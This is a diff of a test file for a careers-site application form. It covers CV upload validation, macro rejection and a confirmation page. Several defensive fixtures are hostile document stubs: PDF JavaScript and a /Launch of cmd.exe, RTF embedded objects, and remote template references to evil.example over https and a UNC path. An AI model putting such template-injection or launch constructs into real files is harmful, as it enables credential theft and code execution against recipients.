@@ -1,8 +1,12 @@
 import { load } from 'cheerio';
 import { expect, test } from 'vitest';
-import { handleApplicationForm } from '../../netlify/forms/handle-application-form.ts';
-import type { Message } from '../../netlify/mail/message.ts';
+import {
+  confirmApplication,
+  handleApplicationForm,
+} from '../../netlify/forms/handle-application-form.ts';
+import { type Message, reference } from '../../netlify/mail/message.ts';
 import { anOpenRole, content } from '../content.ts';
+import { compoundFile, docx, odt, PHOTOS } from './cv-files.ts';
 
 const { fields, problems, responses, thanks } = content.applicationForm;
 const role = anOpenRole();
@@ -17,9 +21,7 @@ const good = {
 };
 
 const PDF = Buffer.from('%PDF-1.7\n');
-/** An OLE compound file, the format of older Office programs; `WordDocument` is in Word files only. */
-const COMPOUND = Buffer.from('d0cf11e0a1b11ae1', 'hex');
-const DOC = Buffer.concat([COMPOUND, Buffer.alloc(1024), Buffer.from('WordDocument', 'utf16le')]);
+const DOC = compoundFile('WordDocument', '1Table');
 
 function form(fields: object, cv?: File): Request {
   const body = new FormData();
@@ -45,7 +47,7 @@ test('an application goes to the hiring team and is confirmed with its reference
   expect(message).toMatchObject({
     inbox: 'careers',
     sender: { name: 'Asha Rao', email: 'asha@example.in' },
-    subject: `Application: ${role.data.title}, Asha Rao`,
+    subject: expect.stringMatching(/^Application: .+, Asha Rao, [0-9A-F]{4}-[0-9A-F]{4}$/),
   });
   expect(message?.text.split('\n').slice(0, 6)).toEqual([
     `Role: ${role.data.title}`,
@@ -56,23 +58,50 @@ test('an application goes to the hiring team and is confirmed with its reference
     'CV: none sent',
   ]);
   const location = headers.get('location') ?? '';
-  expect(location).toMatch(/^\/apply\?reference=[0-9A-F]{4}-[0-9A-F]{4}$/);
-  const page = await send(new Request(`https://tas.example${location}`));
+  expect(location).toBe(`/application-sent?id=${message?.id}`);
+  const page = await confirm(location.split('?')[1] ?? '', async (id) =>
+    id === message?.id ? message : null,
+  );
   expect(page.status).toBe(200);
   expect(page.words).toContain(thanks.heading);
-  const reference = location.slice(-9);
-  expect(page.words).toContain(thanks.reference.replace('{reference}', reference));
-  expect(message?.text).toContain(`Reference ${reference}.`);
+  const quoted = reference(message?.id ?? '');
+  expect(page.words).toContain(thanks.reference.replace('{reference}', quoted));
+  expect(message?.text).toContain(`\nReference: ${quoted}\n`);
 });
 
-test.each(['', '?reference=', '?reference=%3Cscript%3E', '?reference=7F3A-91C2x'])(
-  'GET /apply%s redirects to the form',
-  async (query) => {
-    const { status, headers } = await send(new Request(`https://tas.example/apply${query}`));
-    expect(status).toBe(303);
-    expect(headers.get('location')).toBe('/carrer#graphicScroll');
-  },
-);
+async function confirm(query: string, find: Parameters<typeof confirmApplication>[1]) {
+  const request = new Request(`https://tas.example/application-sent?${query}`);
+  const response = await confirmApplication(request, find);
+  const words = load(await response.text()).text();
+  return { status: response.status, location: response.headers.get('location'), words };
+}
+
+const ID = '7f3a91c2'.repeat(4);
+
+test.each([
+  ['no id', '', null],
+  ['a reference alone', 'id=7F3A-91C2', null],
+  ['an invented id', `id=${ID}`, null],
+  ['the id of a contact message', `id=${ID}`, { inbox: 'company' as const }],
+])('%s is not confirmed', async (_what, query, found) => {
+  const { status, location } = await confirm(query, async () => found);
+  expect(status).toBe(303);
+  expect(location).toBe('/carrer#graphicScroll');
+});
+
+test('an application is confirmed even if the store fails by then', async () => {
+  const { status, words } = await confirm(`id=${ID}`, async () => {
+    throw new Error('the store timed out');
+  });
+  expect(status).toBe(200);
+  expect(words).toContain(reference(ID));
+});
+
+test('GET /apply redirects to the form', async () => {
+  const { status, headers } = await send(new Request('https://tas.example/apply'));
+  expect(status).toBe(303);
+  expect(headers.get('location')).toBe('/carrer#graphicScroll');
+});
 
 test.each([
   ['résumé 2026.PDF', PDF, 'CV résumé 2026.pdf'],
@@ -92,7 +121,16 @@ test.each([
 test.each([
   ['a program', Buffer.from('MZ\u0000\u0000')],
   ['an HTML page', Buffer.from('<!doctype html><script>alert(1)</script>')],
-  ['a spreadsheet in the older Office format', Buffer.concat([COMPOUND, Buffer.alloc(1024)])],
+  ['a page before a PDF', Buffer.from('<html></html>%PDF-1.7\n')],
+  ['a spreadsheet in the older Office format', compoundFile('Workbook')],
+  [
+    'such a spreadsheet with the word in a cell',
+    Buffer.concat([compoundFile('Workbook'), Buffer.from('WordDocument', 'utf16le')]),
+  ],
+  ['a DOCX with two lists of content types', docx({ '[CONTENT_TYPES].XML': 'x' })],
+  ['a DOCX cut off in the middle', docx().subarray(0, -30)],
+  ['an OpenDocument spreadsheet', odt('spreadsheet')],
+  ['a GIF', Buffer.from('GIF89a')],
   ['empty', Buffer.alloc(0)],
 ])('a CV that is %s is rejected with what to choose instead', async (_what, bytes) => {
   const { status, words, message } = await send(form({}, new File([bytes], 'cv.pdf')));
@@ -100,6 +138,53 @@ test.each([
   expect(words).toContain(problems.cvType);
   expect(words).toContain(responses.back);
   expect(message).toBeUndefined();
+});
+
+const MACRO_TYPE = 'application/vnd.ms-word.document.macroEnabled.main+xml';
+
+test.each([
+  ['DOC', compoundFile('WordDocument', 'Macros', 'VBA')],
+  ['DOCX', docx({ 'word/vbaProject.bin': 'x' })],
+  ['DOCM', docx({}, MACRO_TYPE)],
+  ['ODT', odt('text', { 'Basic/Standard/Module1.xml': 'x' })],
+])('a %s with macros is rejected with how to save it without', async (_format, bytes) => {
+  const { status, words } = await send(form({}, new File([bytes], 'cv.docx')));
+  expect(status).toBe(422);
+  expect(words).toContain(problems.cvMacros);
+});
+
+test.each([
+  ['pdf', Buffer.from('\r\n\n%PDF-1.4\n/OpenAction [3 0 R /Fit] (HTML/CSS/JavaScript)')],
+  ['doc', DOC],
+  ['docx', docx({ 'word/media/photo.jpeg': 'x' })],
+  ['odt', odt('text')],
+  ['rtf', Buffer.from('{\\rtf1 Asha {\\pict\\pngblip 89504e47}}')],
+  ...Object.entries(PHOTOS),
+])('a plain %s is attached without a warning', async (extension, bytes) => {
+  const { message } = await send(form({}, new File([bytes], 'IMG_20261122')));
+  expect(message?.text).toContain(`CV: CV IMG_20261122.${extension}, attached\n`);
+});
+
+const relationship = (type: string, target: string) =>
+  docx({
+    'word/_rels/settings.xml.rels': `<Relationship Type="http://x/${type}" Target="${target}" TargetMode="External"/>`,
+  });
+
+test.each([
+  ['contains a script', Buffer.from('%PDF-1.7\n<< /S /J#61vaScript /JS (app.alert(1)) >>')],
+  ['starts another program', Buffer.from('%PDF-1.7\n<< /S/Launch /F (cmd.exe) >>')],
+  ['contains an embedded object', Buffer.from('{\\rtf1 {\\object{\\*\\objdata 0105}}}')],
+  ['contains an embedded object', compoundFile('WordDocument', '\u0001Ole10Native')],
+  ['contains an embedded object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
+  ['loads a template', Buffer.from('{\\rtf1 {\\*\\template http://evil.example/t.dotm}}')],
+  ['loads a template', relationship('attachedTemplate', 'https://evil.example/t.dotm')],
+  ['loads a template', relationship('attachedTemplate', 'file:///\\\\evil.example\\t.dotm')],
+  ['', relationship('attachedTemplate', 'file:///C:\\Users\\Asha\\Normal.dotm')],
+  ['', relationship('hyperlink', 'https://github.com/asha')],
+])('the mail says that a CV %s', async (warning, bytes) => {
+  const { message } = await send(form({}, new File([bytes], 'cv')));
+  const [, line] = /^CV: CV cv\.[a-z]+, attached(.*)$/m.exec(message?.text ?? '') ?? [];
+  expect(line).toMatch(warning ? `; it ${warning}` : /^$/);
 });
 
 test('a 3 MB CV is accepted, one byte more is rejected, and a huge body is not read to the end', async () => {
@@ -149,7 +234,9 @@ test.each([
   async (role, title, note) => {
     const { status, message } = await send(form({ role }));
     expect(status).toBe(title ? 303 : 422);
-    expect(message?.subject).toBe(title && `Application: ${title}, Asha Rao (role not open)`);
+    expect(message?.subject.split(', ').slice(0, 2)).toEqual(
+      title && [`Application: ${title} (not open)`, 'Asha Rao'],
+    );
     if (note) expect(message?.text).toContain(`Note: ${note}`);
   },
 );
